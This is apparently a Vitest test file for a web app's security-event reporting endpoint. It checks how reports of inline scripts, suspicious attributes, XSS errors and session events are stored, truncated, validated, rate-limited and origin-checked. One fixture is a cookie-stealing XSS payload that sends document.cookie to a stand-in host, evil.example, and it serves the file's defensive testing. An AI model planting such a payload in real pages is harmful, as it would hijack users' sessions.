import crypto from 'node:crypto';
import { desc, eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { call, errorOf, getRuntime, randomIp, signUp } from '../../../test/harness';
import { adminActionLog } from '../../db/schema';
import { logAdminAction } from './security.service';

async function db() {
  return (await getRuntime()).database.db;
}

/** The newest log entry carrying this marker in its page URL (each test uses its own). */
async function entryFor(marker: string) {
  const rows = await (await db()).select().from(adminActionLog).orderBy(desc(adminActionLog.createdAt)).limit(200);
  return rows.find((row) => String(row.details.url ?? '').includes(marker)) ?? null;
}

const now = () => new Date().toISOString();
const pageUrl = (marker: string) => `http://localhost:3000/dashboard?probe=${marker}`;

describe('POST /api/security/events', () => {
  it('stores an inline script report from an anonymous visitor, cut to 100 characters', async () => {
    const marker = crypto.randomUUID();
    const content = `alert('${'x'.repeat(400)}')`;
    const response = await call('POST', '/api/security/events', {
      body: { type: 'inline_script_detected', content, timestamp: now(), url: pageUrl(marker) },
    });
    expect(response.status).toBe(204);
    const entry = await entryFor(marker);
    expect(entry).toMatchObject({ actionType: 'inline_script_detected', actorUserId: null, targetUserId: null });
    expect(entry!.details.content).toBe(content.slice(0, 100));
    expect(String(entry!.details.content)).toHaveLength(100);
  });

  it('stores a suspicious attribute with its name and the first 100 characters of its value', async () => {
    const member = await signUp();
    const marker = crypto.randomUUID();
    const value = `fetch('https://evil.example/?c='+document.cookie)${' '.repeat(10)}${'y'.repeat(200)}`;
    const response = await call('POST', '/api/security/events', {
      cookie: member.cookie,
      body: {
        type: 'suspicious_attribute_detected',
        attribute: 'onerror',
        value,
        tagName: 'img',
        timestamp: now(),
        url: pageUrl(marker),
      },
    });
    expect(response.status).toBe(204);
    const entry = await entryFor(marker);
    expect(entry).toMatchObject({ actionType: 'suspicious_attribute_detected', actorUserId: member.id });
    expect(entry!.details).toMatchObject({ attribute: 'onerror', tagName: 'img', value: value.slice(0, 100) });
  });

  it('stores a potential XSS error with message, file, line, column and timestamp', async () => {
    const marker = crypto.randomUUID();
    const timestamp = now();
    const response = await call('POST', '/api/security/events', {
      body: {
        type: 'potential_xss_detected',
        message: `Uncaught EvalError: eval is not allowed ${'z'.repeat(300)}`,
        file: 'http://localhost:3000/assets/app.js',
        line: 12,
        column: 34,
        timestamp,
        url: pageUrl(marker),
      },
    });
    expect(response.status).toBe(204);
    const entry = await entryFor(marker);
    expect(entry!.details).toMatchObject({
      file: 'http://localhost:3000/assets/app.js',
      line: 12,
      column: 34,
      timestamp,
    });
    expect(String(entry!.details.message)).toHaveLength(100);
  });

  it('takes a session event from a signed-in member as JSON, and refuses one posted as text/plain (415)', async () => {
    const member = await signUp();
    const marker = crypto.randomUUID();
    const event = { type: 'session_event', event: 'backgrounded', timestamp: now(), url: pageUrl(marker) };
    // What sendBeacon sends: the web uses a keepalive fetch with a JSON type instead (issue 25).
    const beacon = await call('POST', '/api/security/events', {
      cookie: member.cookie,
      headers: { 'content-type': 'text/plain;charset=UTF-8' },
      rawBody: JSON.stringify(event),
    });
    expect(beacon.status).toBe(415);
    expect(await entryFor(marker)).toBeNull();
    const response = await call('POST', '/api/security/events', { cookie: member.cookie, body: event });
    expect(response.status).toBe(204);
    expect(await entryFor(marker)).toMatchObject({ actionType: 'session_backgrounded', actorUserId: member.id });
  });

  it('refuses a session event without a session (401) and stores nothing', async () => {
    const marker = crypto.randomUUID();
    const response = await call('POST', '/api/security/events', {
      body: { type: 'session_event', event: 'ended', timestamp: now(), url: pageUrl(marker) },
    });
    expect(response.status).toBe(401);
    expect(await entryFor(marker)).toBeNull();
  });

  it.each([
    [{ type: 'keylogger_detected', timestamp: new Date().toISOString(), url: '/' }, 'type'],
    [{ type: 'inline_script_detected', timestamp: 'yesterday', url: '/', content: 'x' }, 'timestamp'],
    [
      {
        type: 'suspicious_attribute_detected',
        attribute: 'style',
        value: 'x',
        timestamp: new Date().toISOString(),
        url: '/',
      },
      'attribute',
    ],
    [
      { type: 'inline_script_detected', content: 'x'.repeat(6000), timestamp: new Date().toISOString(), url: '/' },
      'content',
    ],
  ])('rejects %j with a 400 naming %s', async (body, field) => {
    const response = await call('POST', '/api/security/events', { body });
    expect(response.status).toBe(400);
    expect((await errorOf(response)).details.map((d) => d.field)).toContain(field);
  });

  it('rejects a body that is not JSON with a 400', async () => {
    const response = await call('POST', '/api/security/events', { rawBody: '<script>' });
    expect(response.status).toBe(400);
    expect((await errorOf(response)).code).toBe('invalid_json');
  });

  it('limits one address to 30 events a minute (429), without affecting other addresses', async () => {
    const ip = randomIp();
    const body = { type: 'inline_script_detected', content: 'x', timestamp: now(), url: pageUrl('rate') };
    const statuses: number[] = [];
    for (let i = 0; i < 32; i++) statuses.push((await call('POST', '/api/security/events', { ip, body })).status);
    expect(statuses.slice(0, 30).every((s) => s === 204)).toBe(true);
    expect(statuses.slice(30)).toEqual([429, 429]);
    expect((await call('POST', '/api/security/events', { body })).status).toBe(204);
  });

  it('refuses a report posted from a foreign origin', async () => {
    const response = await call('POST', '/api/security/events', {
      headers: { origin: 'https://evil.example' },
      body: { type: 'inline_script_detected', content: 'x', timestamp: now(), url: '/' },
    });
    expect(response.status).toBe(403);
  });
});

describe('logAdminAction', () => {
  it('writes one entry with actor, type, target and details (empty details by default)', async () => {
    const member = await signUp();
    const id = await logAdminAction(await db(), {
      actorUserId: member.id,
      actionType: 'role_granted',
      targetUserId: member.id,
    });
    const [entry] = await (await db()).select().from(adminActionLog).where(eq(adminActionLog.id, id));
    expect(entry).toMatchObject({
      actorUserId: member.id,
      actionType: 'role_granted',
      targetUserId: member.id,
      details: {},
    });
  });
});
